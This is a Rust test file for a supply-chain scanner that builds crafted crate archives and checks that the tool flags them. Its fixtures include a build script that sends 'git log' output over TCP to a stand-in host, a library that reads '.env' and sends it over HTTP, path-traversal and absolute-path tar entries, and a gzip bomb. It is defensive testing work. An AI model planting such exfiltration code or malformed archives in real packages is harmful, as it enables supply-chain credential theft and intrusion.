//! Attacks that an archive shows, beside that of the version before or by itself.

use std::fs;
use std::io::Write as _;

use flate2::Compression;
use flate2::write::GzEncoder;
use serde_json::Value;
use sha2::{Digest as _, Sha256};

use super::draw::Draw;
use super::support::run::{CRATES_IO, Output, World, found, gaps, lock};

const CACHE: &str = "cargo/registry/cache/index.crates.io-1949cf8c6b5b557f";
const INDEX: &str = "cargo/registry/index/index.crates.io-1949cf8c6b5b557f/.cache";

/// An archive that is being made.
struct Archive {
    folder: String,
    builder: tar::Builder<Vec<u8>>,
}

impl Archive {
    fn new(name: &str, version: &str, manifest: &str) -> Self {
        let mut archive = Self {
            folder: format!("{name}-{version}"),
            builder: tar::Builder::new(Vec::new()),
        };
        archive.file(
            "Cargo.toml",
            format!("[package]\nname = \"{name}\"\nversion = \"{version}\"\n{manifest}"),
        );
        archive
    }

    /// With the commit that it was made from.
    fn clean(name: &str, version: &str, manifest: &str) -> Self {
        let mut archive = Self::new(name, version, manifest);
        archive.vcs("");
        archive
    }

    fn vcs(&mut self, more: &str) -> &mut Self {
        let commit = "5a".repeat(20);
        self.file(
            ".cargo_vcs_info.json",
            format!("{{\"git\":{{\"sha1\":\"{commit}\"{more}}},\"path_in_vcs\":\"\"}}"),
        )
    }

    fn file(&mut self, path: &str, content: impl AsRef<[u8]>) -> &mut Self {
        let path = format!("{}/{path}", self.folder);
        self.entry(tar::EntryType::Regular, &path, content.as_ref())
    }

    /// Any entry, with its path as it is.
    fn entry(&mut self, kind: tar::EntryType, path: &str, content: &[u8]) -> &mut Self {
        let mut header = tar::Header::new_gnu();
        header.as_mut_bytes()[..path.len()].copy_from_slice(path.as_bytes());
        header.set_entry_type(kind);
        header.set_mode(0o644);
        header.set_size(content.len() as u64);
        header.set_cksum();
        self.builder.append(&header, content).unwrap();
        self
    }

    fn packed(self) -> Vec<u8> {
        packed(&self.builder.into_inner().unwrap())
    }
}

fn packed(stream: &[u8]) -> Vec<u8> {
    let mut out = GzEncoder::new(Vec::new(), Compression::fast());
    out.write_all(stream).unwrap();
    out.finish().unwrap()
}

fn sum(bytes: &[u8]) -> String {
    let hash = Sha256::digest(bytes);
    hash.iter().map(|byte| format!("{byte:02x}")).collect()
}

/// A machine with archives in cargo's cache, and a lockfile with one package.
struct Machine {
    world: World,
    name: String,
    version: String,
}

impl Machine {
    /// The lockfile has the checksum of `locked`; it lies in the cache.
    fn new(name: &str, version: &str, locked: &[u8]) -> Self {
        let machine = Self {
            world: World::new(),
            name: name.to_owned(),
            version: version.to_owned(),
        };
        let lock = format!(
            "version = 4\n\n[[package]]\nname = \"app\"\nversion = \"0.1.0\"\ndependencies = [\n \
             \"{name}\",\n]\n\n[[package]]\nname = \"{name}\"\nversion = \"{version}\"\nsource = \
             \"{CRATES_IO}\"\nchecksum = \"{}\"\n",
            sum(locked)
        );
        machine.world.write("project/Cargo.lock", lock);
        machine.cache(version, locked);
        machine
    }

    fn cache(&self, version: &str, archive: &[u8]) {
        let path = format!("{CACHE}/{}-{version}.crate", self.name);
        self.world.write(&path, archive);
    }

    /// What cargo has kept of the index.
    fn index(&self, deps: &str, checksum: &str) {
        let (name, version) = (&self.name, &self.version);
        let line = format!(
            "{{\"name\":\"{name}\",\"vers\":\"{version}\",\"deps\":[{deps}],\"features\":{{}},\
             \"cksum\":\"{checksum}\",\"yanked\":false}}"
        );
        let mut kept = vec![3, 2, 0, 0, 0];
        kept.extend(format!("etag: x\0{version}\0{line}\0").bytes());
        let path = carapace_core::knowledge::registry::path(name).unwrap();
        self.world.write(&format!("{INDEX}/{path}"), kept);
    }

    fn output(&self) -> Output {
        let run = self
            .world
            .plain(&["publishers", "Cargo.lock", "--format", "json"]);
        run.run()
    }

    fn document(&self) -> Value {
        self.output().json()
    }

    /// What is found about archives, each with its level.
    fn signals(&self) -> Vec<String> {
        let document = self.document();
        let findings = document["findings"].as_array().unwrap();
        let of_archives = findings.iter().filter(|finding| {
            let code = finding["code"].as_str().unwrap();
            ("SUP010".."SUP020").contains(&code)
        });
        of_archives
            .map(|finding| {
                let text = |key: &str| finding[key].as_str().unwrap().to_owned();
                format!("{} {}", text("name"), text("level"))
            })
            .collect()
    }

    /// What the package's code can do.
    fn abilities(&self) -> Vec<String> {
        let document = self.document();
        let packages = document["packages"].as_array().unwrap();
        let package = packages
            .iter()
            .find(|package| package["name"] == self.name.as_str());
        let all = package.unwrap()["archive"]["capabilities"]
            .as_array()
            .unwrap();
        all.iter()
            .map(|found| {
                let text = |key: &str| found[key].as_str().unwrap_or_default().to_owned();
                format!("{} {} {}", text("part"), text("ability"), text("names"))
            })
            .collect()
    }
}

/// What is found where one version follows another.
fn release(before: Archive, name: &str, version: &str, now: Archive, from: &str) -> Vec<String> {
    let machine = Machine::new(name, version, &now.packed());
    machine.cache(from, &before.packed());
    machine.signals()
}

const SILENT: [&str; 0] = [];

/// onering 1.4.1: the build script looks into the repository of who builds, and sends what it finds.
#[test]
fn a_build_script_that_reads_git_and_sends_it_out() {
    let mut draw = Draw::new();
    let (name, (from, to)) = (draw.name(), draw.versions());
    let alias = draw.name().replace('-', "_");
    let host = draw.below(250);
    let script = |sends: bool| {
        let send = match sends {
            true => format!(
                "use std::net as {alias};\nlet mut to = \
                 {alias}::TcpStream::connect(\"192.0.2.{host}:80\").unwrap();\n\
                 std::io::Write::write_all(&mut to, &seen.stdout).unwrap();\n"
            ),
            false => String::new(),
        };
        format!(
            "use std::{{process::Command as Run}};\nfn main() {{\nlet seen = \
             Run::new(\"git\").arg(\"log\").output().unwrap();\n{send}}}\n"
        )
    };
    let package = |version: &str, sends: bool| {
        let mut archive = Archive::clean(&name, version, "");
        archive.file("build.rs", script(sends));
        archive
    };
    let found = release(package(&from, false), &name, &to, package(&to, true), &from);
    assert_eq!(found, ["new-capability warn", "changed-build-code note"]);
    let found = release(
        package(&from, false),
        &name,
        &to,
        package(&to, false),
        &from,
    );
    assert_eq!(found, SILENT);
}

/// Packages of 2023 and 2026: a version without code that runs during builds, then one that has some.
#[test]
fn a_build_script_that_the_version_before_had_not() {
    let mut draw = Draw::new();
    let (name, (from, to)) = (draw.name(), draw.versions());
    let program = draw.one(&["curl", "sh", "powershell", "wget"]);
    let package = |version: &str, has_script: bool| {
        let mut archive = Archive::clean(&name, version, "");
        archive.file("src/lib.rs", "pub fn parse() {}");
        if has_script {
            let start = format!("fn main() {{ std::process::Command::new({program:?}); }}");
            archive.file("build.rs", start);
        }
        archive
    };
    let found = release(package(&from, false), &name, &to, package(&to, true), &from);
    assert_eq!(found, ["new-build-code warn"]);
    let found = release(package(&from, true), &name, &to, package(&to, true), &from);
    assert_eq!(found, SILENT);
}

/// serde_derive 1.0.172: a procedural macro brings a program along that was compiled elsewhere.
#[test]
fn a_procedural_macro_with_a_compiled_program() {
    let mut draw = Draw::new();
    let (name, (_, to)) = (draw.name(), draw.versions());
    let program = draw.one(&["x86_64-unknown-linux-gnu", "bin/helper", "data.dat"]);
    let package = |begin: &[u8]| {
        let manifest = "[lib]\nproc-macro = true\n";
        let mut archive = Archive::clean(&name, &to, manifest);
        let code = format!("static X: &[u8] = include_bytes!(\"{program}\");");
        archive.file("src/lib.rs", code);
        archive.file(&format!("src/{program}"), begin);
        Machine::new(&name, &to, &archive.packed())
    };
    let machine = package(b"\x7fELF\x02\x01\x01\0");
    assert_eq!(machine.signals(), ["archive-anomaly warn"]);
    assert_eq!(machine.abilities(), ["proc-macro embedded include_bytes!"]);
    assert_eq!(package(b"\x7fELM\x02\x01\x01\0").signals(), SILENT);
}

/// CVE-2026-33055, CVE-2026-5223 and their kind: an archive that unpacks to other files with one tool
/// than with another.
#[test]
fn archives_that_tools_read_differently() {
    let mut draw = Draw::new();
    let (name, (_, to)) = (draw.name(), draw.versions());
    let folder = format!("{name}-{to}");
    let path = format!("{folder}/src/{}.rs", draw.name());
    let kinds = [
        tar::EntryType::Symlink,
        tar::EntryType::Link,
        tar::EntryType::Char,
        tar::EntryType::Fifo,
    ];
    let kind = draw.one(&kinds);
    type Change<'a> = Box<dyn Fn(&mut Archive, bool) + 'a>;
    let regular = tar::EntryType::Regular;
    let changes: [(&str, Change<'_>); 6] = [
        (
            "a link or a device",
            Box::new(|archive, is_bad| {
                let kind = if is_bad { kind } else { regular };
                archive.entry(kind, &path, b"");
            }),
        ),
        (
            "a path that is there twice",
            Box::new(|archive, is_bad| {
                let more = if is_bad { "" } else { "x" };
                archive
                    .entry(regular, &path, b"")
                    .entry(regular, &format!("{path}{more}"), b"");
            }),
        ),
        (
            "paths that differ in case",
            Box::new(|archive, is_bad| {
                let other = if is_bad { "SRC/X.rs" } else { "SRC2/X.rs" };
                archive.entry(regular, &path, b"").file(other, "");
            }),
        ),
        (
            "a size in a record that is not the header's",
            Box::new(|archive, is_bad| {
                let size = if is_bad { 0 } else { 512 };
                let record = format!(" size={size}\n");
                let record = format!("{}{record}", record.len() + 2 - usize::from(is_bad));
                let record = match is_bad {
                    true => record.replacen(char::is_numeric, "9", 1),
                    false => record,
                };
                archive.entry(tar::EntryType::XHeader, "x", record.as_bytes());
                archive.entry(regular, &path, &[b'x'; 512]);
            }),
        ),
        (
            "a path out of the folder",
            Box::new(|archive, is_bad| {
                let up = if is_bad { "/../" } else { "/up/" };
                archive.entry(regular, &format!("{folder}{up}x.rs"), b"");
            }),
        ),
        (
            "an absolute path",
            Box::new(|archive, is_bad| {
                let root = if is_bad { "/" } else { "" };
                archive.entry(regular, &format!("{root}{folder}/x.rs"), b"");
            }),
        ),
    ];
    for (what, change) in changes {
        for is_bad in [true, false] {
            let mut archive = Archive::clean(&name, &to, "");
            change(&mut archive, is_bad);
            let signals = Machine::new(&name, &to, &archive.packed()).signals();
            let expected: &[&str] = if is_bad {
                &["archive-anomaly deny"]
            } else {
                &SILENT
            };
            assert_eq!(signals, expected, "{what}");
        }
    }
}

/// Stolen tokens, 2025: a version that is published from a desk, out of files that nobody committed.
#[test]
fn a_version_from_files_that_were_not_committed() {
    let mut draw = Draw::new();
    let (name, (_, to)) = (draw.name(), draw.versions());
    let package = |vcs: Option<&str>| {
        let mut archive = Archive::new(&name, &to, "");
        if let Some(more) = vcs {
            archive.vcs(more);
        }
        Machine::new(&name, &to, &archive.packed()).signals()
    };
    assert_eq!(package(Some(",\"dirty\":true")), ["vcs-dirty note"]);
    assert_eq!(package(Some(",\"dirty\":false")), SILENT);
    assert_eq!(package(None), ["vcs-missing note"]);
}

/// time_calibrator and others, 2026: a library that reads keys and sends them away.
#[test]
fn a_library_that_reads_keys_and_sends_them() {
    let mut draw = Draw::new();
    let (name, (from, to)) = (draw.name(), draw.versions());
    let http = draw.one(&["ureq", "reqwest", "minreq"]);
    let called = draw.name().replace('-', "_");
    let manifest =
        format!("[dependencies]\n{called} = {{ package = \"{http}\", version = \"1\" }}\n");
    let package = |version: &str, sends: bool| {
        let mut archive = Archive::clean(&name, version, &manifest);
        let send = match sends {
            true => format!("{called}::get(key);"),
            false => String::new(),
        };
        let code = format!("pub fn f() {{ let key = std::fs::read(\".env\"); {send} }}");
        archive.file("src/lib.rs", code);
        archive
    };
    let found = release(package(&from, false), &name, &to, package(&to, true), &from);
    assert_eq!(found, ["new-capability note"]);
    let found = release(
        package(&from, false),
        &name,
        &to,
        package(&to, false),
        &from,
    );
    assert_eq!(found, SILENT);
    let machine = Machine::new(&name, &to, &package(&to, true).packed());
    let get = format!("library network {called}::get");
    assert_eq!(
        machine.abilities(),
        [get.as_str(), "library files std::fs::read"]
    );
}

/// The index does not say what the archive's manifest needs.
#[test]
fn a_dependency_that_the_index_does_not_show() {
    let mut draw = Draw::new();
    let (name, (_, to)) = (draw.name(), draw.versions());
    let hidden = draw.name();
    let manifest = format!("[dependencies]\n\"{hidden}\" = \"1.2\"\n");
    let archive = Archive::clean(&name, &to, &manifest).packed();
    let machine = Machine::new(&name, &to, &archive);
    machine.index("", &sum(&archive));
    assert_eq!(machine.signals(), ["index-mismatch deny"]);
    let shown = format!(
        "{{\"name\":\"{hidden}\",\"req\":\"^1.2\",\"features\":[],\"optional\":false,\
         \"default_features\":true,\"target\":null,\"kind\":\"normal\"}}"
    );
    machine.index(&shown, &sum(&archive));
    assert_eq!(machine.signals(), SILENT);
}

/// Somebody who can write to cargo's cache changes an archive: cargo does not look at it again.
#[test]
fn an_archive_in_the_cache_that_is_not_the_locked_one() {
    let mut draw = Draw::new();
    let (name, (_, to)) = (draw.name(), draw.versions());
    let archive = Archive::clean(&name, &to, "").packed();
    let machine = Machine::new(&name, &to, &archive);
    assert_eq!(machine.signals(), SILENT);
    let mut changed = Archive::clean(&name, &to, "");
    changed.file("src/lib.rs", "pub fn more() {}");
    machine.cache(&to, &changed.packed());
    assert_eq!(machine.signals(), ["archive-checksum deny"]);
    assert_eq!(machine.output().code, 1);
}

/// What is damaged, cut or made to be large is told, within bounded memory.
#[test]
fn archives_that_cannot_be_read() {
    let mut draw = Draw::new();
    let (name, (_, to)) = (draw.name(), draw.versions());
    let whole = Archive::clean(&name, &to, "").packed();
    let cut = draw.below(whole.len());
    let bomb = packed(&vec![0; 520 << 20]);
    for archive in [&whole[..cut], b"garbage", &bomb] {
        let machine = Machine::new(&name, &to, archive);
        let run = machine.world.plain(&["publishers", "Cargo.lock"]);
        let run = if cfg!(target_os = "linux") {
            run.within(4 << 20)
        } else {
            run
        };
        run.exits(1).shows(&["is not as cargo makes one"]);
    }
}

#[test]
fn what_is_not_at_hand_is_a_gap() {
    let mut draw = Draw::new();
    let (name, (from, to)) = (draw.name(), draw.versions());
    let archive = Archive::clean(&name, &to, "").packed();
    let machine = Machine::new(&name, &to, &archive);
    let alone = gaps(&machine.document());
    assert!(
        alone
            .iter()
            .any(|gap| gap.starts_with("archives before: of 1 ")),
        "{alone:?}"
    );
    machine.cache(&from, &Archive::clean(&name, &from, "").packed());
    let both = gaps(&machine.document());
    assert!(
        !both.iter().any(|gap| gap.starts_with("archive")),
        "{both:?}"
    );
    fs::remove_file(machine.world.path(&format!("{CACHE}/{name}-{to}.crate"))).unwrap();
    let none = gaps(&machine.document());
    assert!(
        none.iter().any(|gap| gap.contains("`cargo fetch` gets it")),
        "{none:?}"
    );
}

/// Facts are kept by the archive's checksum: a second run says the same, and one after the archive was
/// changed does not.
#[test]
fn what_is_kept_is_what_the_archive_says() {
    let mut draw = Draw::new();
    let (name, (_, to)) = (draw.name(), draw.versions());
    let package = |code: &str| {
        let mut archive = Archive::clean(&name, &to, "");
        archive.file("src/lib.rs", code);
        archive.packed()
    };
    let archive = package("fn f() { std::fs::read(x); }");
    let machine = Machine::new(&name, &to, &archive);
    let first = machine.output();
    assert!(machine.world.path("cache/facts").is_dir());
    assert_eq!(machine.output(), first);
    assert_eq!(machine.abilities(), ["library files std::fs::read"]);
    for file in fs::read_dir(machine.world.path("cache/facts")).unwrap() {
        fs::write(file.unwrap().path(), "damaged").unwrap();
    }
    assert_eq!(machine.output(), first);
    machine.cache(&to, &package("fn f() {}"));
    assert_eq!(found(&machine.document())[0], "SUP011");
}

/// 2026-08: a victim was hit through a scratch lockfile below `target`.
#[test]
fn a_malicious_package_in_a_forgotten_lockfile_and_in_the_cache() {
    let mut draw = Draw::new();
    let (name, (from, to)) = (draw.name(), draw.versions());
    let machine = Machine::new(&name, &to, &Archive::clean(&name, &to, "").packed());
    let world = &machine.world;
    world.write("project/Cargo.lock", "version = 4\n");
    let scratch = lock(&[(&name, &to)]);
    world.write("project/target/scratch/Cargo.lock", scratch);
    let advisory = |version: &str| {
        let advisory = format!(
            "```toml\n[advisory]\nid = \"RUSTSEC-2026-0001\"\npackage = \"{name}\"\ndate = \
             \"2026-06-01\"\ncategories = [\"malicious\"]\n[versions]\npatched = []\nunaffected = \
             [\"<{version}\"]\n```\n\n# It sends keys away\n\nWhat is wrong.\n"
        );
        world.write(&format!("db/crates/{name}/RUSTSEC-2026-0001.md"), advisory);
    };
    let run = || {
        let run = world.plain(&["publishers", "-r", "--offline", "--db"]);
        run.arg(world.path("db"))
    };
    advisory(&from);
    let document = run().json(1);
    let expected = format!("RUSTSEC-2026-0001 {name}@{to}");
    assert_eq!(found(&document), [expected.as_str(), &expected]);
    let inputs: Vec<&str> = document["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|finding| finding["input"].as_str().unwrap())
        .collect();
    assert!(inputs.contains(&"target/scratch/Cargo.lock"), "{inputs:?}");
    assert!(
        inputs
            .iter()
            .any(|input| input.contains("index.crates.io-")),
        "{inputs:?}"
    );
    // The version is from before the attack.
    let (major, _) = to.split_once('.').unwrap();
    advisory(&format!("{}.0.0", major.parse::<u64>().unwrap() + 1));
    assert_eq!(found(&run().json(0)), SILENT);
}
